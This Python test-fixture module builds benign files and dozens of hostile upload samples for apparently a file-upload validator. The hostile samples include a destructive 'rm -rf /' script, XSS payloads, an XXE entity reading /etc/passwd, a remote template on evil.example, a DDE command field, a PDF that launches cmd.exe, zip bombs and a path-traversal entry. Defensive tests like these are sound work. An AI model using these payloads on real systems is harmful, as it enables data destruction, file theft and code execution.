"""Files as people send them: some honest, and many that must be refused; each small, and made here."""

import io
import struct
import zipfile
import zlib

EICAR = "".join(["X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"]).encode()
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
EXCEL = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
BODY = '<w:document xmlns:w="w"><w:body><w:p><w:r><w:t>Said at the door.</w:t></w:r></w:p></w:body></w:document>'
SHEET = '<worksheet><dimension ref="A1:B2"/><sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData></worksheet>'


def zipped(parts: dict[str, bytes | str], **options) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED, **options) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return held.getvalue()


def types(main: str) -> str:
    return f'<?xml version="1.0"?><Types><Override PartName="/main.xml" ContentType="{main}"/></Types>'


def docx(body: str = BODY, main: str = WORD, **more: bytes | str) -> bytes:
    return zipped({"[Content_Types].xml": types(main), "word/document.xml": body, **more})


def xlsx(sheet: str = SHEET, main: str = EXCEL, **more: bytes | str) -> bytes:
    parts = {"[Content_Types].xml": types(main), "xl/workbook.xml": "<workbook/>", "xl/worksheets/sheet1.xml": sheet}
    return zipped(parts | more)


def chunk(kind: bytes, held: bytes) -> bytes:
    return struct.pack(">I", len(held)) + kind + held + struct.pack(">I", zlib.crc32(kind + held))


def png(width: int = 1, height: int = 1) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    dots = zlib.compress(b"\0\0")
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", dots) + chunk(b"IEND", b"")


def jpeg(width: int = 1, height: int = 1) -> bytes:
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    return b"\xff\xd8\xff\xe0\x00\x04ab" + frame + b"\xff\xda\x00\x02" + b"\0" * 20 + b"\xff\xd9"


def pdf(trailer: bytes = b"/Root 1 0 R", end: bytes = b"%%EOF\n") -> bytes:
    return b"%PDF-1.7\n1 0 obj <</Type /Catalog>> endobj\ntrailer <<" + trailer + b">>\n" + end


def inner(name: str) -> bytes:
    return OLE + name.encode("utf-16-le") + b"\0" * 512


def within(name: str, depth: int) -> bytes:
    """A zip in a zip in a zip."""
    held = b"0" * 1000
    for _ in range(depth):
        held = zipped({name: held})
    return held


def locked_zip() -> bytes:
    """A docx whose parts have a password: the bit that says so is set in both of its directories."""
    held = bytearray(docx())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        found = held.find(mark)
        while found >= 0:
            held[found + place] |= 1
            found = held.find(mark, found + 4)
    return bytes(held)


LAUGHS = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><w:document>&b;</w:document>'
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:document>&a;</w:document>'
TEMPLATE = (
    '<Relationships><Relationship Id="1" Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" '
    'TargetMode="External"/></Relationships>'
)
FAR = SHEET.replace('r="A1"', 'r="XFD1048576"')
PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00" + b"\0" * 200
PART_OF_A_PICTURE = png()[:20]

HONEST = {
    "letter.pdf": ("pdf", pdf()),
    "letter.docx": ("docx", docx()),
    "chronology.xlsx": ("xlsx", xlsx()),
    "notes.txt": ("text", "Seen at home. She said “no”.\r\n".encode()),
    "old notes.txt": ("text", "Caf\xe9 \x96 seen".encode("latin-1")),
    "wide.txt": ("text", "Seen at home".encode("utf-16")),
    "dates.csv": ("text", b"day,what\n1 May,visit\n"),
    "door.jpg": ("jpeg", jpeg()),
    "plan.png": ("png", png()),
    "minutes": ("text", b"Seen at home."),
}
HOSTILE = {  # what it is: the name it comes under, what it holds, and words of the reason
    "empty": ("letter.pdf", b"", "is empty"),
    "a PDF with a password": ("letter.pdf", pdf(b"/Root 1 0 R /Encrypt 9 0 R"), "has a password"),
    "a Word file with a password": ("letter.docx", inner("EncryptedPackage"), "has a password"),
    "a zip with a password": ("letter.docx", locked_zip(), "has a password"),
    "a Word file with macros": ("letter.docx", docx(**{"word/vbaProject.bin": b"\0"}), "macros"),
    "a macro type without the part": ("a.docx", docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"), "macros"),
    "an Excel file with macros": ("a.xlsx", xlsx(**{"xl/vbaProject.bin": b"\0"}), "macros"),
    "macros in an Excel file inside": (
        "a.docx", docx(**{"word/embeddings/one.xlsx": xlsx(**{"xl/vbaProject.bin": b"\0"})}), "macros",
    ),
    "an old Word file": ("letter.doc", inner("WordDocument"), "“Word document (.docx)”"),
    "an old Excel file": ("sheet.xls", inner("Workbook"), "“Excel workbook (.xlsx)”"),
    "an Outlook message": ("mail.msg", inner("__substg1.0_0037001F"), "Print it to a PDF"),
    "an e-mail": ("mail.eml", b"From: a@example.org\r\nMIME-Version: 1.0\r\n\r\nHello", "Print it to a PDF"),
    "a program called a PDF": ("letter.pdf", PROGRAM, "is a program"),
    "a script": ("letter.txt", b"#!/bin/sh\nrm -rf /\n", "is a program"),
    "a batch file": ("letter.txt", b"@ECHO off\r\ndel *\r\n", "is a program"),
    "text called a PDF": ("letter.pdf", b"Seen at home.", "This file says it is a PDF, but it is text. Save it again as a PDF."),
    "text called a Word document": ("letter.DOCX", b"Seen at home.", "says it is a Word document, but it is text"),
    "text called a picture": ("plan.png", b"Seen at home.", "says it is a PNG picture, but it is text"),
    "a picture called a Word document": ("plan.docx", png(), "a Word document, but it is a PNG picture"),
    "a PDF called text": ("notes.txt", pdf(), "says it is text, but it is a PDF. Save it again as a text file."),
    "text called a program": ("annex\u202efdp.exe", b"Seen at home.", "ends in .exe, as a program’s does"),
    "a web page": ("letter.txt", b"<!DOCTYPE html><script>alert(1)</script>", "web page"),
    "a web page further down": ("letter.txt", b"Dear all,\n<ScRiPt>alert(1)</script>", "web page"),
    "a drawing with a script": ("plan.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "web page"),
    "a PDF that starts a program": ("a.pdf", pdf(b"/Root 1 0 R /OpenAction <</S /Launch /F (cmd.exe)>>"), "start a program"),
    "a bomb": ("a.docx", docx(**{"word/media/zero.bin": b"\0" * 40_000_000}), "unpack to far more"),
    "a bomb inside": (
        "a.docx", docx(**{"word/embeddings/one.xlsx": zipped({"zero": b"\0" * 40_000_000})}), "unpack to far more",
    ),
    "a zip in a zip in a zip": ("a.docx", docx(**{"word/one.zip": within("two.zip", 3)}), "unpack to far more"),
    "a bomb of many parts": ("a.docx", docx(**{f"word/{n}": b"" for n in range(5001)}), "unpack to far more"),
    "far cells": ("a.xlsx", xlsx(FAR), "very far down or to the right"),
    "a far dimension": ("a.xlsx", xlsx(SHEET.replace("A1:B2", "A1:XFD1048576")), "very far down or to the right"),
    "a far row": ("a.xlsx", xlsx(SHEET.replace('<row r="1"', '<row r="9999999"')), "very far down or to the right"),
    "too many cells": ("a.xlsx", xlsx(SHEET.replace("<sheetData>", "<sheetData>" + '<c r="A1"/>' * 1_000_001)), "more cells"),
    "a billion laughs": ("a.docx", docx(LAUGHS), "no Word or Excel file needs"),
    "an entity from outside": ("a.docx", docx(OUTSIDE), "no Word or Excel file needs"),
    "an entity in two-byte letters": ("a.docx", docx(OUTSIDE.encode("utf-16")), "no Word or Excel file needs"),
    "a template from elsewhere": ("a.docx", docx(**{"word/_rels/settings.xml.rels": TEMPLATE}), "from another place"),
    "a DDE link": ("a.docx", docx(BODY.replace("Said", "DDEAUTO cmd")), "from another place"),
    "half a PDF": ("a.pdf", pdf(end=b""), "not whole"),
    "half a Word file": ("a.docx", docx()[:-30], "not whole"),
    "half a picture": ("a.png", png()[:-12], "not whole"),
    "the start of a picture": ("a.png", PART_OF_A_PICTURE, "not whole"),
    "a part that is not what it was": ("a.docx", docx().replace(b"PK\x01\x02", b"PK\x01\x03", 1), "not whole"),
    "a flood of dots": ("a.png", png(60_000, 60_000), "60,000 by 60,000 dots"),
    "a flood in a JPEG": ("a.jpg", jpeg(65_000, 65_000), "65,000 by 65,000 dots"),
    "a flood inside a Word file": ("a.docx", docx(**{"word/media/one.png": png(60_000, 60_000)}), "60,000 by 60,000 dots"),
    "a zip": ("a.docx", zipped({"readme.txt": "hello"}), "Take the files out of it"),
    "a path that climbs out": ("a.docx", docx(**{"../../etc/cron.d/x": "x"}), "not whole"),
    "slides": ("a.pptx", zipped({"[Content_Types].xml": types("x"), "ppt/presentation.xml": "<p/>"}), "Save them as a PDF"),
    "an Excel binary file": ("a.xlsx", zipped({"[Content_Types].xml": types("x"), "xl/workbook.bin": "x"}), ".xlsb"),
    "an OpenDocument file": ("a.odt", zipped({"mimetype": "application/vnd.oasis", "content.xml": "<x/>"}), "OpenDocument"),
    "rich text": ("a.rtf", b"{\\rtf1 hello}", "rich text"),
    "a recording": ("a.mp4", b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + b"\0" * 64, "Recordings"),
    "another picture": ("a.gif", b"GIF89a" + b"\0" * 40, "cannot be kept"),
    "bytes of nothing": ("a.pdf", bytes(range(256)) * 4, "cannot be kept"),
}  # fmt: skip
TWELVE = [  # one of each kind of trouble, for the pages; every other is tried where files are judged
    "empty", "a Word file with a password", "a Word file with macros", "an old Word file", "a program called a PDF",
    "a web page", "a bomb", "far cells", "a billion laughs", "half a PDF", "a flood of dots", "a zip",
]  # fmt: skip
